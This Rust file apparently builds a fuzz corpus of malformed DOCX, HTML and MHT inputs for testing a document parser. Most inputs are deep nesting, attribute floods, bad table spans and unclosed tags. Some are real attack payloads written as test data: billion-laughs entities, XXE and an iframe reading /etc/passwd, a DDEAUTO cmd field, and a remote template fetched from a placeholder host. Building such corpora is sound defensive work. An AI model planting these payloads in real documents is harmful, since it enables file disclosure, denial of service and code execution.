//! XML and HTML: entities, depth, attributes, tables of any size.

use super::Set;
use super::zip::{HEAD, Part, TAIL, archive, docx};

fn raw(xml: String) -> Vec<u8> {
    let mut parts = docx("");
    parts[2] = Part::stored("word/document.xml", xml.as_bytes());
    archive(&parts)
}

fn body(xml: &str) -> Vec<u8> {
    archive(&docx(xml))
}

pub fn make(set: &mut Set) {
    let laughs: String = (1..12).map(|i| format!("<!ENTITY a{i} \"{}\">", format!("&a{};", i - 1).repeat(10))).collect();
    let doctype = format!("<!DOCTYPE x [<!ENTITY a0 \"9\">{laughs}]>");
    set.add("entities", "laughs.docx", raw(format!("<?xml version=\"1.0\"?>{doctype}<w:document><w:body>&a11;</w:body></w:document>")));
    set.add("entities", "laughs.html", format!("{doctype}<html><body>&a11;</body></html>"));
    let outside = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";
    set.add("entities", "outside.docx", raw(format!("{outside}<w:document>&e;</w:document>")));
    set.add("entities", "unknown.docx", body("<w:p><w:r><w:t>&nbsp;&x;&#0;&#xFFFFFFFF;&#99999999999;&</w:t></w:r></w:p>"));
    set.add("entities", "flood.html", format!("<html>{}", "&amp;&#x4e2d;&#0;&#1114112;&nosuch;&".repeat(20_000)));

    for depth in [255, 257, 100_000] {
        let nest = |open: &str, close: &str| format!("{}9{}", open.repeat(depth), close.repeat(depth));
        set.add("depth", format!("{depth}.docx"), body(&nest("<w:p>", "</w:p>")));
        set.add("depth", format!("tables {depth}.docx"), body(&nest("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>")));
        set.add("depth", format!("{depth}.html"), format!("<html>{}", nest("<div>", "</div>")));
        set.add("depth", format!("tables {depth}.html"), format!("<html>{}", nest("<table><tr><td>", "</td></tr></table>")));
        set.add("depth", format!("open only {depth}.html"), format!("<html>{}", "<b><i><p>".repeat(depth)));
    }
    let attributes: String = (0..80_000).map(|i| format!(" a{i}='1'")).collect();
    set.add("attributes", "flood.docx", body(&format!("<w:p{attributes}/>")));
    set.add("attributes", "spaces.docx", body(&format!("<w:p{}/>", attributes.replace(" a", " xmlns:a"))));
    set.add("attributes", "flood.html", format!("<html><p{attributes}>9</p>"));
    set.add("attributes", "same.html", format!("<html><p{}>9</p>", " a=1".repeat(100_000)));
    set.add("attributes", "long.html", format!("<html><p a='{}'>9</p>", "x".repeat(500_000)));
    set.add("attributes", "no end.html", format!("<html><p a='{}", "x".repeat(500_000)));

    let spans = |span: &str| format!("<html><table><tr><td colspan={span} rowspan={span}>9<td>8</tr><tr><td colspan={span}>7</table>");
    for span in ["0", "-1", "1000", "65535", "4294967296", "99999999999999999999"] {
        set.add("tables", format!("{span}.html"), spans(span));
        set.add("tables", format!("many {span}.html"), spans(span).repeat(200));
        let grid = format!("<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"{span}\"/><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>");
        set.add("tables", format!("{span}.docx"), body(&grid.repeat(100)));
    }
    set.add(
        "tables",
        "a long cell.docx",
        body(&format!("<w:tbl><w:tr><w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>", "九".repeat(32_768))),
    );
    set.add("tables", "cells.html", format!("<html><table>{}", "<td>".repeat(100_000)));

    for (name, html) in [
        ("comment", "<html><!--"),
        ("script", "<html><script>"),
        ("data", "<html><![CDATA["),
        ("tag", "<html><"),
        ("end", "<html></"),
        ("style", "<html><style><!--"),
    ] {
        set.add("unclosed", format!("{name}.html"), format!("{html}{}", "支出 < 9 > ".repeat(10_000)));
    }
    for mark in ["<", "<!", "<!--", "</", "<a", "&", "<script>", "<![CDATA[", "<td", "]]>", "<?"] {
        set.add("unclosed", "repeated.html", format!("<html>{}", mark.repeat(50_000)));
    }
    for xml in ["<w:p>", "</w:p>", "<w:p></w:r>", "<w:p", "<", "\u{1}", "]]>", "<?x"] {
        set.add("unclosed", "body.docx", body(xml));
        set.add("unclosed", "file.docx", raw(format!("{HEAD}{xml}")));
    }
    let field = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\x cmd</w:instrText></w:r></w:p>"#;
    set.add("active", "dde.docx", body(field));
    set.add("active", "many fields.docx", body(&field.repeat(5_000)));
    let template = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/x.dotm" TargetMode="External"/></Relationships>"#;
    let mut parts = docx("<w:p><w:r><w:t>9</w:t></w:r></w:p>");
    parts.push(Part::stored("word/_rels/document.xml.rels", template.as_bytes()));
    set.add("active", "template.docx", archive(&parts));
    set.add("active", "script.html", "<html><script>while(1);</script><iframe src='file:///etc/passwd'></iframe><p>支出9万元</p>");
    for charset in ["utf-7", "utf-16", "x-none", "gb2312", "big5", ""] {
        set.add("active", format!("charset {charset}.html"), format!("<html><meta charset='{charset}'>支出9万元{TAIL}"));
    }
    let message = |boundary: &str, inner: &str| {
        format!(
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"{boundary}\"\r\n\r\n--{boundary}\r\n{inner}\r\n--{boundary}--\r\n"
        )
    };
    set.add("archived pages", "no end.mht", message("x", "Content-Type: text/html\r\n\r\n<html>9").replace("--x--", ""));
    set.add("archived pages", "no name.mht", message("", "Content-Type: text/html\r\n\r\n<html>9"));
    set.add(
        "archived pages",
        "coded.mht",
        message("x", &format!("Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", "A===".repeat(20_000))),
    );
    set.add(
        "archived pages",
        "quoted.mht",
        message(
            "x",
            &format!("Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{}", "=\r\n=G".repeat(20_000)),
        ),
    );
    set.add("archived pages", "nested.mht", (0..500).fold("<html>9".to_owned(), |inner, i| message(&format!("b{i}"), &inner)));
    set.add("archived pages", "parts.mht", message("x", &"\r\n--x\r\nContent-Type: text/html\r\n\r\n<html>9".repeat(20_000)));
}
